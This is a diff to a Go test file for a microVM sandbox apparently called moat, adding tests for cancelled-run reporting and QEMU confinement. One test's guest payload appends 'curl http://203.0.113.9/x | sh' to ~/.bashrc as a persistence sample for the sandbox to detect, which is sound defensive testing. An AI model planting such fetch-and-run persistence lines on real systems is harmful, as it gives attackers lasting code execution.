@@ -8,6 +8,8 @@ import (
 	"fmt"
 	"net"
 	"os"
+	"slices"
+	"strconv"
 	"strings"
 	"sync/atomic"
 	"testing"
@@ -36,7 +38,7 @@ func newBackend() moat.Backend { return &microvm.Backend{} }
 // host.
 func options(emulated bool) moattest.Options {
 	o := moattest.Options{
-		Layers: []string{"microvm", "guest-kernel", "read-only-runtime", "channel", "disk", "network-none", "seccomp", "user", "cgroup-v2", "rlimits", "timeout", "output-limit", "behaviour-report"},
+		Layers: []string{"microvm", "guest-kernel", "read-only-runtime", "vmm", "channel", "disk", "network-none", "seccomp", "user", "cgroup-v2", "rlimits", "timeout", "output-limit", "behaviour-report"},
 		Sentry: &moattest.Sentry{Leftovers: microvm.Leftovers},
 	}
 	if emulated {
@@ -67,7 +69,6 @@ func TestMicroVM(t *testing.T) {
 func TestRefused(t *testing.T) {
 	for _, spec := range []*moat.Spec{
 		{Args: []string{"-c", "pass"}, Network: moat.NetworkAllow("example.com:443")},
-		{Args: []string{"-c", "pass"}, Userland: true},
 	} {
 		_, err := (&microvm.Backend{}).Run(context.Background(), spec)
 		if !errors.Is(err, moat.ErrUnsupported) {
@@ -396,4 +397,126 @@ time.sleep(100000)
 	if !hasFinding(res, "persistence", ".bashrc") || hasFinding(res, "evasion", "the report is incomplete") {
 		t.Errorf("findings %+v", res.Findings)
 	}
+}
+
+// TestReportCancel: a cancelled run keeps its report: moat asks the agent
+// to kill the program (as on a timeout) and waits for the exit and the
+// report before it kills the VM. Without that the VM died with the
+// guest's report and the run had only a report-cut event.
+func TestReportCancel(t *testing.T) {
+	b := moattest.RequireBackend(t, "microvm")
+	code := `
+import os, time
+with open(os.path.expanduser('~/.bashrc'), 'a') as f:
+    f.write('curl http://203.0.113.9/x | sh\n')
+print('written', flush=True)
+time.sleep(100000)
+`
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	out := &onMark{mark: "written", fn: cancel}
+	res, err := b.Run(ctx, &moat.Spec{Args: []string{"-c", code}, Stdout: out, Limits: moat.Limits{Timeout: 10 * time.Minute}})
+	if err != nil {
+		t.Fatalf("Run: %v", err)
+	}
+	if res.Status != moat.StatusCanceled || !strings.Contains(res.Stdout, "written") {
+		t.Fatalf("result: %+v", res)
+	}
+	if !hasFinding(res, "persistence", ".bashrc") || hasFinding(res, "evasion", "the report is incomplete") {
+		t.Errorf("findings %+v; events %+v", res.Findings, res.Events)
+	}
+	if left := microvm.Leftovers(); len(left) > 0 {
+		t.Errorf("left on the host: %q", left)
+	}
+}
+
+// TestVMMConfined: while a guest runs, its QEMU is not root (when moat
+// is), has no supplementary groups, runs under its seccomp filter
+// (-sandbox: Seccomp 2 in /proc/PID/status, with no_new_privs), works in
+// an empty directory and holds no path of moat's cache or run directory
+// open but the descriptors moat gave it. The Result's vmm layer says so.
+func TestVMMConfined(t *testing.T) {
+	b := moattest.RequireBackend(t, "microvm")
+	var status, cwd string
+	var pids []int
+	look := func() {
+		ents, _ := os.ReadDir("/proc")
+		for _, e := range ents {
+			pid, err := strconv.Atoi(e.Name())
+			if err != nil {
+				continue
+			}
+			st, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
+			if err != nil || !strings.Contains(string(st), fmt.Sprintf("\nPPid:\t%d\n", os.Getpid())) {
+				continue
+			}
+			cmd, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
+			if !strings.Contains(string(cmd), "moat-microvm-") {
+				continue
+			}
+			pids = append(pids, pid)
+			status = string(st)
+			cwd, _ = os.Readlink(fmt.Sprintf("/proc/%d/cwd", pid))
+		}
+	}
+	out := &onMark{mark: "running", fn: look}
+	res, err := b.Run(context.Background(), &moat.Spec{Args: []string{"-c", "import time; print('running', flush=True); time.sleep(5)"}, Stdout: out})
+	if err != nil {
+		t.Fatalf("Run: %v", err)
+	}
+	if res.Status != moat.StatusExited || res.ExitCode != 0 {
+		t.Fatalf("result: %+v", res)
+	}
+	if len(pids) != 1 {
+		t.Fatalf("found %d QEMU processes of this test while the guest ran (%v)", len(pids), pids)
+	}
+	field := func(name string) string {
+		for _, line := range strings.Split(status, "\n") {
+			if v, ok := strings.CutPrefix(line, name+":"); ok {
+				return strings.TrimSpace(v)
+			}
+		}
+		return ""
+	}
+	uids, gids := strings.Fields(field("Uid")), strings.Fields(field("Gid"))
+	if os.Geteuid() == 0 {
+		if len(uids) != 4 || len(gids) != 4 || slices.Contains(uids, "0") || slices.Contains(gids, "0") {
+			t.Errorf("QEMU runs as uid %v gid %v, want no 0 among them", uids, gids)
+		}
+		if g := field("Groups"); g != "" {
+			t.Errorf("QEMU has supplementary groups %q", g)
+		}
+	}
+	if field("Seccomp") != "2" || field("NoNewPrivs") != "1" {
+		t.Errorf("QEMU's Seccomp %q NoNewPrivs %q, want 2 and 1 (-sandbox on)", field("Seccomp"), field("NoNewPrivs"))
+	}
+	if ents, err := os.ReadDir(cwd); cwd == "" || cwd == "/" || err != nil || len(ents) > 0 {
+		t.Errorf("QEMU's working directory %q (%v), want an empty one", cwd, err)
+	}
+	var layer string
+	for _, l := range res.Layers {
+		if l.Name == "vmm" {
+			layer = l.Detail
+		}
+	}
+	if !strings.Contains(layer, "-sandbox on,obsolete=deny,elevateprivileges=deny,spawn=deny,resourcecontrol=deny") {
+		t.Errorf("vmm layer %q", layer)
+	}
+}
+
+// onMark calls fn once, when the program's output first holds mark.
+type onMark struct {
+	mark string
+	fn   func()
+	seen strings.Builder
+	done bool
+}
+
+func (o *onMark) Write(p []byte) (int, error) {
+	o.seen.Write(p)
+	if !o.done && strings.Contains(o.seen.String(), o.mark) {
+		o.done = true
+		o.fn()
+	}
+	return len(p), nil
 }
